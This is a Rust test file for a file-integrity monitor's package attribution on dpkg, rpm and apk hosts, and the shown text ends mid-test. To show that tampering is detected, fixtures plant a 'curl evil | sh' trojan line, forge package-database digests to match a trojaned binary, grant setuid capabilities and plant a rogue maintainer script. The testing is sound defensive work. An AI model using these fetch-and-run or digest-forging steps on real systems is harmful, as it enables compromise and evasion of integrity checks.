//! Package attribution (docs/design.md, "Package attribution") on real package managers: packages built with dpkg-deb and
//! rpmbuild, installed, upgraded, reinstalled and removed with `dpkg --root` and
//! `rpm --root --dbpath` in a temporary host root; an apk database written in apk's format.
//! Each shows: an operation explains its changes (one Aggregated report with Summarize) and
//! leaves nothing unexplained, database files included; a file changed by hand afterwards is
//! unexplained; a file and its digest in the database both rewritten by hand leave at least one
//! unexplained change; a removal is explained; a malformed database is an entity error.

#![allow(clippy::unwrap_used, clippy::expect_used)] // test helpers panic with the failure

mod common;

use common::{packaging::*, *};
use kubefim_agent::{diff::Change, scan::ScanMode};
use kubefim_crds::{
    AttributionKind, ChangeCategory as C, PackageManager, WorkspaceConfig, nodestatus::EntityState,
    workspace::AttributionMode,
};

/// Changes nothing explains.
fn unexplained(changes: &[Change]) -> Vec<(String, C, Vec<kubefim_crds::filechange::ChangedAttribute>)> {
    let bare: Vec<Change> = changes
        .iter()
        .filter(|c| c.attribution.is_none())
        .cloned()
        .collect();
    paths(&bare)
}

/// The paths of the changes nothing explains.
fn unexplained_paths(changes: &[Change]) -> Vec<String> {
    unexplained(changes)
        .into_iter()
        .map(|(path, _, _)| path)
        .collect()
}

/// The Aggregated reports of package operations.
fn reports(changes: &[Change]) -> Vec<&Change> {
    changes
        .iter()
        .filter(|c| c.category == C::Aggregated && c.attribution.is_some())
        .collect()
}

fn ws(mode: AttributionMode, database: &str) -> WorkspaceConfig {
    let mut ws = workspace(vec![
        files("bin", "/usr/bin"),
        files("etc", "/etc"),
        files("packages", database),
    ]);
    ws.packages.attribution = mode;
    ws
}

fn v1() -> Vec<Item> {
    vec![
        file("/usr/bin/kfdemo", "#!/bin/sh\necho kfdemo 1.0\n"),
        file("/usr/bin/kfhelper", "#!/bin/sh\necho helper\n"),
        symlink("/usr/bin/kfdemo-link", "kfdemo"),
        conffile("/etc/kfdemo.conf", "level = 1\n"),
    ]
}

fn v2() -> Vec<Item> {
    vec![
        file("/usr/bin/kfdemo", "#!/bin/sh\necho kfdemo 2.0, much improved\n"),
        file("/usr/bin/kfhelper", "#!/bin/sh\necho helper\n"),
        symlink("/usr/bin/kfdemo-link", "kfdemo"),
        conffile("/etc/kfdemo.conf", "level = 2\n"),
    ]
}

/// Installs kfdemo 1.0 with dpkg and takes the baseline; returns the fixture and the 2.0 deb.
fn dpkg_fixture(mode: AttributionMode) -> (Fixture, WorkspaceConfig, std::path::PathBuf) {
    require("dpkg-deb");
    let fx = Fixture::new();
    let debs = fx.state.path().join("debs");
    dpkg_init(fx.host.path());
    let first = build_deb(&debs, "kfdemo", "1.0", &v1());
    dpkg(fx.host.path(), &["-i", first.to_str().unwrap()]);
    let ws = ws(mode, "/var/lib/dpkg");
    fx.init(&ws);
    let second = build_deb(&debs, "kfdemo", "2.0", &v2());
    (fx, ws, second)
}

#[test]
fn a_dpkg_upgrade_is_one_explained_report_and_nothing_unexplained() {
    let (fx, ws, second) = dpkg_fixture(AttributionMode::Summarize);
    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
    let changes = fx.detect(&ws);
    assert_eq!(unexplained(&changes), [], "database files included");
    let reports = reports(&changes);
    assert_eq!(reports.len(), 1, "{:#?}", paths(&changes));
    let report = reports[0];
    let attribution = report.attribution.as_ref().unwrap();
    assert_eq!(attribution.kind, AttributionKind::Package);
    assert_eq!(attribution.manager, Some(PackageManager::Dpkg));
    assert_eq!(attribution.package.as_deref(), Some("kfdemo"));
    assert_eq!(
        (
            attribution.from_version.as_deref(),
            attribution.to_version.as_deref()
        ),
        (Some("1.0"), Some("2.0"))
    );
    assert!(
        attribution.digest_verified,
        "the binary and the conffile match their md5"
    );
    let folded = report.aggregated.as_ref().unwrap();
    assert!(
        folded.count >= 3,
        "binary, conffile and database files: {folded:#?}"
    );
    for path in ["/usr/bin/kfdemo", "/etc/kfdemo.conf", "/var/lib/dpkg/status"] {
        assert!(
            folded.sample_paths.iter().any(|p| p == path),
            "{path} in {folded:#?}"
        );
    }
    assert!(fx.detect(&ws).is_empty(), "the upgrade is now the baseline");
}

#[test]
fn report_mode_keeps_one_change_each_with_its_attribution() {
    let (fx, ws, second) = dpkg_fixture(AttributionMode::Report);
    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
    let changes = fx.detect(&ws);
    assert!(reports(&changes).is_empty());
    assert_eq!(unexplained(&changes), []);
    let binary = only_change(&changes, "/usr/bin/kfdemo");
    let attribution = binary.attribution.as_ref().unwrap();
    assert!(attribution.digest_verified);
    assert_eq!(attribution.to_version.as_deref(), Some("2.0"));
    let status = only_change(&changes, "/var/lib/dpkg/status");
    assert!(
        !status.attribution.as_ref().unwrap().digest_verified,
        "a database file is explained by the operation"
    );
}

#[test]
fn off_explains_nothing() {
    let (fx, ws, second) = dpkg_fixture(AttributionMode::Off);
    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
    let changes = fx.detect(&ws);
    assert!(changes.iter().all(|c| c.attribution.is_none()));
    only_change(&changes, "/usr/bin/kfdemo");
}

#[test]
fn a_file_changed_by_hand_after_a_dpkg_upgrade_is_unexplained() {
    let (fx, ws, second) = dpkg_fixture(AttributionMode::Summarize);
    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
    fx.detect(&ws);
    fx.write("/usr/bin/kfdemo", "#!/bin/sh\ncurl evil | sh\n");
    let changes = fx.detect(&ws);
    assert_eq!(unexplained(&changes).len(), 1, "{:#?}", paths(&changes));
    assert!(only_change(&changes, "/usr/bin/kfdemo").attribution.is_none());
}

#[test]
fn a_change_by_hand_during_the_upgrade_window_is_unexplained() {
    let (fx, ws, second) = dpkg_fixture(AttributionMode::Summarize);
    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
    // Same scan window as the upgrade: the digest no longer matches what dpkg recorded.
    fx.write("/usr/bin/kfhelper", "#!/bin/sh\ncurl evil | sh\n");
    let changes = fx.detect(&ws);
    assert_eq!(
        unexplained(&changes)
            .iter()
            .map(|(p, ..)| p.as_str())
            .collect::<Vec<_>>(),
        ["/usr/bin/kfhelper"]
    );
}

/// dpkg records no file capabilities: a capability granted during an upgrade, to a file the
/// upgrade rewrote, one it left alone, or one it added, is never explained by it.
#[test]
fn a_capability_granted_during_an_upgrade_is_never_explained() {
    common::assert_root("set file capabilities");
    let (fx, ws, _) = dpkg_fixture(AttributionMode::Summarize);
    let mut items = v2();
    items.push(file("/usr/bin/kfnew", "#!/bin/sh\necho new\n"));
    let upgrade = build_deb(&fx.state.path().join("debs"), "kfdemo", "2.1", &items);
    dpkg(fx.host.path(), &["-i", upgrade.to_str().unwrap()]);
    for binary in ["/usr/bin/kfdemo", "/usr/bin/kfhelper", "/usr/bin/kfnew"] {
        common::attributes::tool("setcap", &["cap_setuid+ep"], &fx.path(binary));
    }
    let changes = fx.detect(&ws);
    let mut bare = unexplained_paths(&changes);
    bare.sort();
    assert_eq!(
        bare,
        ["/usr/bin/kfdemo", "/usr/bin/kfhelper", "/usr/bin/kfnew"],
        "{:#?}",
        paths(&changes)
    );
    for (binary, reason) in [
        (
            "/usr/bin/kfdemo",
            "capabilities changed, which kfdemo (dpkg) does not vouch for",
        ),
        (
            "/usr/bin/kfhelper",
            "capabilities changed, which kfdemo (dpkg) does not vouch for",
        ),
        (
            "/usr/bin/kfnew",
            "it carries file capabilities cap_setuid+ep, which dpkg does not record for kfdemo",
        ),
    ] {
        let change = only_change(&changes, binary);
        assert_eq!(change.unexplained.as_deref(), Some(reason), "{change:#?}");
    }
}

#[test]
fn a_file_no_package_owns_changed_during_an_upgrade_names_the_operation_but_is_not_verified() {
    let (fx, ws, second) = dpkg_fixture(AttributionMode::Report);
    fx.write("/etc/shells", "/bin/sh\n");
    fx.detect(&ws);
    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
    // What a maintainer script does, and what anyone else could do at that moment.
    fx.write("/etc/shells", "/bin/sh\n/usr/bin/kfdemo\n");
    let changes = fx.detect(&ws);
    let shells = only_change(&changes, "/etc/shells");
    let attribution = shells.attribution.as_ref().expect("the operation is named");
    assert_eq!(attribution.kind, AttributionKind::OperationUnverified);
    assert_eq!(attribution.manager, Some(PackageManager::Dpkg));
    assert_eq!(attribution.package.as_deref(), Some("kfdemo"));
    assert_eq!(
        (
            attribution.from_version.as_deref(),
            attribution.to_version.as_deref()
        ),
        (Some("1.0"), Some("2.0"))
    );
    assert_eq!(attribution.operated_packages, ["kfdemo"]);
    assert!(!attribution.digest_verified, "nothing vouches for it");
    assert_eq!(unexplained(&changes), [], "{:#?}", paths(&changes));

    // With no operation in the window, the same change is unexplained.
    fx.write("/etc/shells", "/bin/sh\n/tmp/evil\n");
    let changes = fx.detect(&ws);
    assert!(only_change(&changes, "/etc/shells").attribution.is_none());
}

#[test]
fn a_package_managers_lock_taken_names_it_but_anything_written_into_the_lock_is_unexplained() {
    let (fx, ws, _) = dpkg_fixture(AttributionMode::Report);
    let lock = fx.path("/var/lib/dpkg/lock");
    std::fs::write(&lock, "").unwrap();
    fx.detect(&ws);
    set_mtime(&lock, 1_700_000_000);
    let changes = fx.detect(&ws);
    let taken = only_change(&changes, "/var/lib/dpkg/lock");
    let attribution = taken.attribution.as_ref().expect("the lock was taken");
    assert_eq!(attribution.kind, AttributionKind::OperationUnverified);
    assert_eq!(attribution.manager, Some(PackageManager::Dpkg));
    assert!(attribution.operated_packages.is_empty() && !attribution.digest_verified);

    std::fs::write(&lock, "payload").unwrap();
    let changes = fx.detect(&ws);
    assert!(
        only_change(&changes, "/var/lib/dpkg/lock").attribution.is_none(),
        "a lock holds nothing"
    );
}

#[test]
fn operation_unverified_changes_are_their_own_report_and_never_taken_by_an_owned_file() {
    let (fx, ws, second) = dpkg_fixture(AttributionMode::Summarize);
    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
    fx.write("/etc/ld.so.cache", "rebuilt by the trigger");
    // Owned by kfdemo, and not what dpkg recorded: unexplained, not "during the operation".
    fx.write("/usr/bin/kfhelper", "#!/bin/sh\ncurl evil | sh\n");
    let changes = fx.detect(&ws);
    assert_eq!(unexplained_paths(&changes), ["/usr/bin/kfhelper"]);
    let kinds: Vec<AttributionKind> = reports(&changes)
        .iter()
        .map(|r| r.attribution.as_ref().unwrap().kind)
        .collect();
    assert_eq!(kinds.len(), 2, "{:#?}", paths(&changes));
    assert!(
        kinds.contains(&AttributionKind::Package) && kinds.contains(&AttributionKind::OperationUnverified)
    );
    let unverified = reports(&changes)
        .into_iter()
        .find(|r| r.attribution.as_ref().unwrap().kind == AttributionKind::OperationUnverified)
        .unwrap();
    assert_eq!(
        unverified.aggregated.as_ref().unwrap().sample_paths,
        ["/etc/ld.so.cache"]
    );
    assert!(!unverified.attribution.as_ref().unwrap().digest_verified);
}

#[test]
fn realtime_rescans_and_a_full_scan_give_the_same_change_the_same_attribution() {
    use std::collections::BTreeMap;
    // The same upgrade and the same hand-made changes on two identical hosts: one seen by a
    // full scan, the other by realtime rescans of exactly the paths that changed.
    let mutate = |fx: &Fixture, second: &std::path::Path| {
        dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
        fx.write("/etc/shells", "/bin/sh\n/usr/bin/kfdemo\n");
        fx.write("/usr/bin/kfhelper", "#!/bin/sh\ncurl evil | sh\n");
    };
    let attributions =
        |changes: &[Change]| -> BTreeMap<String, Option<(AttributionKind, Option<String>, bool)>> {
            changes
                .iter()
                .filter(|c| c.category != C::Aggregated)
                .map(|c| {
                    let a = c
                        .attribution
                        .as_ref()
                        .map(|a| (a.kind, a.package.clone(), a.digest_verified));
                    (c.path.clone(), a)
                })
                .collect()
        };
    let (scanned, ws, second) = dpkg_fixture(AttributionMode::Report);
    mutate(&scanned, &second);
    let by_scan = attributions(&scanned.detect(&ws));

    let (realtime, ws, second) = dpkg_fixture(AttributionMode::Report);
    mutate(&realtime, &second);
    let mut changes = Vec::new();
    for (entity, paths) in [
        ("bin", vec!["/usr/bin/kfdemo", "/usr/bin/kfhelper"]),
        ("etc", vec!["/etc/shells", "/etc/kfdemo.conf"]),
    ] {
        let keys: Vec<Vec<u8>> = paths
            .iter()
            .map(|p| p.trim_start_matches('/').replace('/', "\0").into_bytes())
            .collect();
        realtime
            .scanner()
            .scan_targets(
                &ws,
                entity,
                &keys,
                kubefim_crds::ChangeSource::Realtime,
                &mut |c| changes.push(c),
            )
            .unwrap();
    }
    let by_realtime = attributions(&changes);
    assert!(!by_realtime.is_empty());
    for (path, attribution) in &by_realtime {
        assert_eq!(
            Some(attribution),
            by_scan.get(path),
            "{path}: realtime {attribution:?}, scan {:?}",
            by_scan.get(path)
        );
    }
    assert_eq!(
        by_realtime["/etc/shells"].as_ref().map(|a| a.0),
        Some(AttributionKind::OperationUnverified)
    );
    assert_eq!(by_realtime["/usr/bin/kfhelper"], None);
    assert_eq!(
        by_realtime["/usr/bin/kfdemo"].as_ref().map(|a| (a.0, a.2)),
        Some((AttributionKind::Package, true))
    );
}

#[test]
fn a_binary_and_its_md5sums_line_rewritten_by_hand_are_unexplained() {
    let (fx, ws, _) = dpkg_fixture(AttributionMode::Summarize);
    let trojan = "#!/bin/sh\ncurl evil | sh\n";
    fx.write("/usr/bin/kfdemo", trojan);
    let md5sums = fx.path("/var/lib/dpkg/info/kfdemo.md5sums");
    let text = std::fs::read_to_string(&md5sums).unwrap();
    let forged: String = text
        .lines()
        .map(|line| match line.split_once("  ") {
            Some((_, "usr/bin/kfdemo")) => format!("{:x}  usr/bin/kfdemo\n", {
                use md5::Digest as _;
                md5::Md5::digest(trojan.as_bytes())
            }),
            _ => format!("{line}\n"),
        })
        .collect();
    assert_ne!(forged, text, "the digest line was rewritten");
    std::fs::write(&md5sums, forged).unwrap();
    let changes = fx.detect(&ws);
    let bare = unexplained(&changes);
    assert!(!bare.is_empty(), "{:#?}", paths(&changes));
    assert!(bare.iter().any(|(p, ..)| p == "/usr/bin/kfdemo"), "{bare:#?}");
    assert!(
        bare.iter()
            .any(|(p, ..)| p == "/var/lib/dpkg/info/kfdemo.md5sums"),
        "{bare:#?}"
    );
}

#[test]
fn a_maintainer_script_planted_for_an_unknown_package_during_an_upgrade_is_unexplained() {
    let (fx, ws, second) = dpkg_fixture(AttributionMode::Report);
    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
    fx.write("/var/lib/dpkg/info/evil.postinst", "#!/bin/sh\ncurl evil | sh\n");
    let changes = fx.detect(&ws);
    let bare = unexplained(&changes);
    assert!(
        bare.iter().any(|(p, ..)| p == "/var/lib/dpkg/info/evil.postinst"),
        "the upgrade of kfdemo does not vouch for a file of a package dpkg never held: {bare:#?}"
    );
    assert!(
        bare.iter().all(|(p, ..)| p == "/var/lib/dpkg/info/evil.postinst"),
        "the upgrade's own files stay explained: {bare:#?}"
    );
}

#[test]
fn a_dpkg_reinstall_is_explained_with_equal_versions() {
    let (fx, ws, _) = dpkg_fixture(AttributionMode::Report);
    let again = build_deb(&fx.state.path().join("debs"), "kfdemo", "1.0", &v1());
    dpkg(fx.host.path(), &["-i", again.to_str().unwrap()]);
    let changes = fx.detect(&ws);
    assert_eq!(unexplained(&changes), []);
    let binary = only_change(&changes, "/usr/bin/kfdemo");
    let attribution = binary.attribution.as_ref().unwrap();
    assert_eq!(
        (
            attribution.from_version.as_deref(),
            attribution.to_version.as_deref()
        ),
        (Some("1.0"), Some("1.0"))
    );
}

#[test]
fn a_dpkg_removal_is_explained() {
    let (fx, ws, _) = dpkg_fixture(AttributionMode::Report);
    dpkg(fx.host.path(), &["-P", "kfdemo"]);
    let changes = fx.detect(&ws);
    assert_eq!(unexplained(&changes), []);
    let removed = only_change(&changes, "/usr/bin/kfdemo");
    assert_eq!(removed.category, C::Removed);
    let attribution = removed.attribution.as_ref().unwrap();
    assert_eq!(
        (
            attribution.from_version.as_deref(),
            attribution.to_version.as_deref()
        ),
        (Some("1.0"), None)
    );
    assert!(
        !attribution.digest_verified,
        "a removal is explained by ownership"
    );
}

#[test]
fn a_malformed_dpkg_database_is_an_entity_error_and_explains_nothing() {
    let (fx, ws, second) = dpkg_fixture(AttributionMode::Summarize);
    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
    let status = fx.path("/var/lib/dpkg/status");
    let mut text = std::fs::read(&status).unwrap();
    text.extend_from_slice(b"\nVersion: 3.0\nStatus: install ok installed\n");
    std::fs::write(&status, text).unwrap();
    let (outcome, changes) = fx.scan(&ws, ScanMode::Detect);
    assert!(reports(&changes).is_empty());
    only_change(&changes, "/usr/bin/kfdemo");
    let database = outcome.entities.iter().find(|e| e.name == "packages").unwrap();
    assert_eq!(database.state, EntityState::Error);
    let message = database.message.as_deref().unwrap();
    assert!(message.contains("/var/lib/dpkg/status"), "{message}");
    let binaries = outcome.entities.iter().find(|e| e.name == "bin").unwrap();
    assert_eq!(binaries.errors.get("package_database_unreadable"), Some(&1));
}

/// Installs kfdemo 1.0 with rpm and takes the baseline; returns the fixture and the 2.0 rpm.
fn rpm_fixture(mode: AttributionMode) -> (Fixture, WorkspaceConfig, std::path::PathBuf) {
    require("rpmbuild");
    let fx = Fixture::new();
    let rpms = fx.state.path().join("rpms");
    let first = build_rpm(&rpms, "kfdemo", "1.0", &v1());
    rpm(fx.host.path(), &["-i", first.to_str().unwrap()]);
    let ws = ws(mode, "/var/lib/rpm");
    fx.init(&ws);
    (fx, ws, build_rpm(&rpms, "kfdemo", "2.0", &v2()))
}

#[test]
fn an_rpm_upgrade_is_one_explained_report_and_nothing_unexplained() {
    let (fx, ws, second) = rpm_fixture(AttributionMode::Summarize);
    rpm(fx.host.path(), &["-U", second.to_str().unwrap()]);
    let changes = fx.detect(&ws);
    assert_eq!(unexplained(&changes), [], "database files included");
    let reports = reports(&changes);
    assert_eq!(reports.len(), 1, "{:#?}", paths(&changes));
    let attribution = reports[0].attribution.as_ref().unwrap();
    assert_eq!(attribution.manager, Some(PackageManager::Rpm));
    assert_eq!(attribution.package.as_deref(), Some("kfdemo.noarch"));
    assert_eq!(
        (
            attribution.from_version.as_deref(),
            attribution.to_version.as_deref()
        ),
        (Some("1.0-1"), Some("2.0-1"))
    );
    assert!(attribution.digest_verified, "sha256 digests from the header");
}

#[test]
fn a_file_changed_by_hand_on_an_rpm_host_is_unexplained_and_a_removal_is_explained() {
    let (fx, ws, _) = rpm_fixture(AttributionMode::Report);
    fx.write("/usr/bin/kfhelper", "#!/bin/sh\ncurl evil | sh\n");
    let changes = fx.detect(&ws);
    assert_eq!(unexplained(&changes).len(), 1, "{:#?}", paths(&changes));
    rpm(fx.host.path(), &["-e", "kfdemo"]);
    let changes = fx.detect(&ws);
    assert_eq!(unexplained(&changes), []);
    let removed = only_change(&changes, "/usr/bin/kfdemo");
    assert_eq!(removed.category, C::Removed);
    assert_eq!(removed.attribution.as_ref().unwrap().to_version, None);
}

#[test]
fn a_binary_and_its_rpm_header_digest_rewritten_by_hand_are_unexplained() {
    let (fx, ws, _) = rpm_fixture(AttributionMode::Summarize);
    let original = "#!/bin/sh\necho kfdemo 1.0\n";
    let trojan = "#!/bin/sh\necho kfdemo 6.6\n";
    assert_eq!(original.len(), trojan.len(), "the header keeps its sizes");
    let hex = |s: &str| {
        use sha2::Digest as _;
        format!("{:x}", sha2::Sha256::digest(s.as_bytes()))
    };
    let database = fx.path("/var/lib/rpm/rpmdb.sqlite");
    let bytes = std::fs::read(&database).unwrap();
    let (old, new) = (hex(original), hex(trojan));
    let at = bytes
        .windows(old.len())
        .position(|w| w == old.as_bytes())
        .expect("the digest is in the main file (rpm checkpoints on close)");
    let mut forged = bytes.clone();
    forged[at..at + new.len()].copy_from_slice(new.as_bytes());
    std::fs::write(&database, forged).unwrap();
    fx.write("/usr/bin/kfdemo", trojan);
    let changes = fx.detect(&ws);
    let bare = unexplained(&changes);
    assert!(bare.iter().any(|(p, ..)| p == "/usr/bin/kfdemo"), "{bare:#?}");
    assert!(
        bare.iter().any(|(p, ..)| p == "/var/lib/rpm/rpmdb.sqlite"),
        "{bare:#?}"
    );
}

#[test]
fn a_malformed_rpm_database_is_an_entity_error() {
    let (fx, ws, _) = rpm_fixture(AttributionMode::Summarize);
    let database = fx.path("/var/lib/rpm/rpmdb.sqlite");
    let mut bytes = std::fs::read(&database).unwrap();
    // A page size of 3 bytes: not a database SQLite could open.
    bytes[16] = 0;
    bytes[17] = 3;
    std::fs::write(&database, bytes).unwrap();
    fx.write("/usr/bin/kfdemo", "changed\n");
    let (outcome, changes) = fx.scan(&ws, ScanMode::Detect);
    assert!(only_change(&changes, "/usr/bin/kfdemo").attribution.is_none());
    let entity = outcome.entities.iter().find(|e| e.name == "packages").unwrap();
    assert_eq!(entity.state, EntityState::Error);
    assert!(entity.message.as_deref().unwrap().contains("rpmdb.sqlite"));
}

fn apk_v1() -> Vec<Item> {
    vec![
        file("/usr/bin/kfdemo", "#!/bin/sh\necho kfdemo 1.0\n"),
        symlink("/usr/bin/kfdemo-link", "kfdemo"),
    ]
}

/// kfdemo 1.0 installed by apk, baselined by a Summarize workspace on its database.
fn apk_fixture() -> (Fixture, WorkspaceConfig) {
    let fx = Fixture::new();
    apk_install(
        fx.host.path(),
        &[ApkPackage {
            name: "kfdemo",
            version: "1.0-r0",
            items: &apk_v1(),
        }],
    );
    let ws = ws(AttributionMode::Summarize, "/lib/apk/db");
    fx.init(&ws);
    (fx, ws)
}

#[test]
fn an_apk_upgrade_is_explained_and_a_hand_change_is_not() {
    let (fx, ws) = apk_fixture();
    let v2 = [
        file("/usr/bin/kfdemo", "#!/bin/sh\necho kfdemo 2.0\n"),
        symlink("/usr/bin/kfdemo-link", "kfdemo"),
    ];
    apk_install(
        fx.host.path(),
        &[ApkPackage {
            name: "kfdemo",
            version: "2.0-r0",
            items: &v2,
        }],
    );
    let changes = fx.detect(&ws);
    assert_eq!(unexplained(&changes), [], "the database file included");
    let reports = reports(&changes);
    assert_eq!(reports.len(), 1, "{:#?}", paths(&changes));
    let attribution = reports[0].attribution.as_ref().unwrap();
    assert_eq!(attribution.manager, Some(PackageManager::Apk));
    assert!(attribution.digest_verified, "sha1 from Z: lines");
    fx.write("/usr/bin/kfdemo", "#!/bin/sh\ncurl evil | sh\n");
    let changes = fx.detect(&ws);
    assert_eq!(unexplained(&changes).len(), 1);
}

#[test]
fn an_apk_binary_and_its_checksum_rewritten_by_hand_are_unexplained_and_a_removal_is_explained() {
    let fx = Fixture::new();
    let other = [file("/usr/bin/other", "other\n")];
    let installed = |items: &[Item]| {
        apk_install(
            fx.host.path(),
            &[
                ApkPackage {
                    name: "kfdemo",
                    version: "1.0-r0",
                    items,
                },
                ApkPackage {
                    name: "other",
                    version: "1.0-r0",
                    items: &other,
                },
            ],
        )
    };
    installed(&apk_v1());
    let ws = ws(AttributionMode::Report, "/lib/apk/db");
    fx.init(&ws);
    // The same version with another binary: what a forger writes.
    installed(&[
        file("/usr/bin/kfdemo", "#!/bin/sh\ncurl evil | sh\n"),
        symlink("/usr/bin/kfdemo-link", "kfdemo"),
    ]);
    let changes = fx.detect(&ws);
    let bare = unexplained(&changes);
    assert!(bare.iter().any(|(p, ..)| p == "/usr/bin/kfdemo"), "{bare:#?}");
    assert!(
        bare.iter().any(|(p, ..)| p == "/lib/apk/db/installed"),
        "{bare:#?}"
    );
    // Removal: the package leaves the database and its files leave the disk.
    apk_install(
        fx.host.path(),
        &[ApkPackage {
            name: "other",
            version: "1.0-r0",
            items: &other,
        }],
    );
    std::fs::remove_file(fx.path("/usr/bin/kfdemo")).unwrap();
    std::fs::remove_file(fx.path("/usr/bin/kfdemo-link")).unwrap();
    let changes = fx.detect(&ws);
    assert_eq!(unexplained(&changes), []);
    assert_eq!(only_change(&changes, "/usr/bin/kfdemo").category, C::Removed);
}

#[test]
fn a_malformed_apk_database_is_an_entity_error() {
    let (fx, ws) = apk_fixture();
    std::fs::write(
        fx.path("/lib/apk/db/installed"),
        "P:kfdemo\nV:1.0-r0\nR:kfdemo\nZ:not-a-checksum\n",
    )
    .unwrap();
    let (outcome, _) = fx.scan(&ws, ScanMode::Detect);
    let entity = outcome.entities.iter().find(|e| e.name == "packages").unwrap();
    assert_eq!(entity.state, EntityState::Error);
    assert!(
        entity
            .message
            .as_deref()
            .unwrap()
            .contains("/lib/apk/db/installed")
    );
}

#[test]
fn a_package_manager_holding_its_lock_is_an_operation_in_progress() {
    let fx = Fixture::new();
    dpkg_init(fx.host.path());
    let lock = fx.write("/var/lib/dpkg/lock", "");
    assert!(!kubefim_agent::packages::in_progress(&fx.root));
    // A real POSIX lock held by another process, as dpkg holds it.
    let mut holder = std::process::Command::new("python3")
        .arg("-c")
        .arg("import fcntl, sys, time\nf = open(sys.argv[1], 'r+')\nfcntl.lockf(f, fcntl.LOCK_EX)\nprint('locked', flush=True)\ntime.sleep(60)")
        .arg(&lock)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(holder.stdout.as_mut().unwrap()),
        &mut line,
    )
    .unwrap();
    assert_eq!(line.trim(), "locked");
    let held = kubefim_agent::packages::in_progress(&fx.root);
    holder.kill().unwrap();
    holder.wait().unwrap();
    assert!(held, "the lock is seen as held");
    assert!(!kubefim_agent::packages::in_progress(&fx.root), "and as released");
}

#[test]
fn a_directory_an_upgrade_touched_is_explained_after_its_file_was_reported_in_realtime() {
    let (fx, ws, second) = rpm_fixture(AttributionMode::Report);
    rpm(fx.host.path(), &["-U", second.to_str().unwrap()]);
    // A realtime rescan reports the binary first; the directory's times are left to the scan.
    let scanner = fx.scanner();
    let mut realtime = Vec::new();
    scanner
        .scan_targets(
            &ws,
            "bin",
            &[b"usr\0bin\0kfdemo".to_vec()],
            kubefim_crds::ChangeSource::Realtime,
            &mut |c| realtime.push(c),
        )
        .unwrap();
    assert!(only_change(&realtime, "/usr/bin/kfdemo").attribution.is_some());
    let changes = fx.detect(&ws);
    assert_eq!(unexplained(&changes), []);
    // rpm packages do not own /usr/bin: what explains it is an operated package's file in it.
    let directory = only_change(&changes, "/usr/bin");
    assert_eq!(
        directory.attribution.as_ref().unwrap().package.as_deref(),
        Some("kfdemo.noarch")
    );
}

/// A merged-/usr host root as Debian 12 has it: /bin, /sbin and /lib are links into /usr.
fn merged_usr_fixture() -> Fixture {
    require("dpkg-deb");
    let fx = Fixture::new();
    for dir in ["usr/bin", "usr/sbin", "usr/lib"] {
        std::fs::create_dir_all(fx.host.path().join(dir)).unwrap();
    }
    for name in ["bin", "sbin", "lib"] {
        std::os::unix::fs::symlink(format!("usr/{name}"), fx.host.path().join(name)).unwrap();
    }
    dpkg_init(fx.host.path());
    fx
}

/// /usr/bin, /usr/sbin and the package database at `database`, each change reported with its
/// attribution.
fn merged_usr_workspace(database: &str) -> WorkspaceConfig {
    let mut ws = workspace(vec![
        files("bin", "/usr/bin"),
        files("sbin", "/usr/sbin"),
        files("packages", database),
    ]);
    ws.packages.attribution = AttributionMode::Report;
    ws
}

fn under_bin() -> Vec<Item> {
    vec![
        file("/bin/kfmerged", "#!/bin/sh\necho merged\n"),
        symlink("/bin/kfmerged-link", "kfmerged"),
        file("/sbin/kfmerged-admin", "#!/bin/sh\necho admin\n"),
    ]
}

#[test]
fn on_a_merged_usr_host_a_reinstall_of_files_recorded_under_bin_is_explained() {
    let fx = merged_usr_fixture();
    let debs = fx.state.path().join("debs");
    let deb = build_deb(&debs, "kfmerged", "1.0", &under_bin());
    dpkg(fx.host.path(), &["-i", deb.to_str().unwrap()]);
    assert!(
        fx.host.path().join("usr/bin/kfmerged").exists(),
        "dpkg unpacked through the /bin link"
    );
    let ws = merged_usr_workspace("/var/lib/dpkg");
    fx.init(&ws);
    dpkg(fx.host.path(), &["-i", deb.to_str().unwrap()]);
    let changes = fx.detect(&ws);
    assert_eq!(
        unexplained(&changes),
        [],
        "every change of the reinstall is explained"
    );
    let binary = only_change(&changes, "/usr/bin/kfmerged");
    let attribution = binary.attribution.as_ref().unwrap();
    assert_eq!(attribution.package.as_deref(), Some("kfmerged"));
    assert!(
        attribution.digest_verified,
        "checked against dpkg's md5sum of /bin/kfmerged"
    );
    let admin = only_change(&changes, "/usr/sbin/kfmerged-admin");
    assert!(admin.attribution.as_ref().unwrap().digest_verified);
}

#[test]
fn on_a_merged_usr_rpm_host_a_reinstall_of_files_recorded_under_bin_is_explained_and_a_hand_change_is_not() {
    require("rpmbuild");
    // Fedora's layout: /bin, /sbin and /lib are links into /usr, and rpm records what a package
    // lists, here /bin and /sbin paths.
    let fx = merged_usr_fixture();
    let rpm_file = build_rpm(&fx.state.path().join("rpms"), "kfmerged", "1.0", &under_bin());
    rpm(fx.host.path(), &["-i", rpm_file.to_str().unwrap()]);
    assert!(
        fx.host.path().join("usr/bin/kfmerged").exists(),
        "rpm unpacked through the /bin link"
    );
    let ws = merged_usr_workspace("/var/lib/rpm");
    fx.init(&ws);
    // rpm stamps an install with its transaction id, the time in seconds: a reinstall in the
    // same second as the install is indistinguishable from none (hnum is no stamp: --rebuilddb
    // renumbers it). A real reinstall is seconds later at the least.
    wait_for_next_second();
    rpm(
        fx.host.path(),
        &["-U", "--replacepkgs", rpm_file.to_str().unwrap()],
    );
    let changes = fx.detect(&ws);
    assert!(!changes.is_empty(), "the reinstall replaced the files");
    assert_eq!(
        unexplained(&changes),
        [],
        "every change of the reinstall is explained"
    );
    let binary = only_change(&changes, "/usr/bin/kfmerged");
    let attribution = binary.attribution.as_ref().unwrap();
    assert_eq!(attribution.manager, Some(PackageManager::Rpm));
    assert!(
        attribution.digest_verified,
        "checked against rpm's digest of /bin/kfmerged"
    );

    std::fs::write(
        fx.host.path().join("usr/sbin/kfmerged-admin"),
        "#!/bin/sh\necho owned\n",
    )
    .unwrap();
    let changes = fx.detect(&ws);
